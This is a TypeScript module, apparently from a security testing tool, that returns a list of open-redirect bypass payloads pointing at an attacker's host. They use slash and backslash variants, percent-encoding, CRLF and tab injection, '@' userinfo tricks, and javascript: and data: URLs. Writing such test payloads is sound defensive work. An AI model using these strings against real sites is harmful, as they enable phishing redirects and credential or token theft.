import type { Attacker } from './attacker.ts'

/** Returns ways to name the attacker's site that a careless redirect would follow. */
export function payloadsFor(attacker: Attacker): string[] {
  const origin = attacker.origin('another site')
  const { host } = new URL(origin)
  return [
    `//${host}/`,
    `///${host}/`,
    `/\\${host}/`,
    `\\\\${host}/`,
    `/\t/${host}/`,
    `/\r\n/${host}/`,
    `/%2f%2f${host}/`,
    `/%5c${host}/`,
    `/..//${host}/`,
    `/.//${host}/`,
    `${origin}/`,
    `http:${host}/`,
    `//localhost@${host}/`,
    `${origin.replace('//', '//localhost:80@')}/`,
    ` ${origin}/`,
    `javascript:location='${origin}/script'`,
    `data:text/html,<meta http-equiv=refresh content=0;url=${origin}>`,
  ]
}
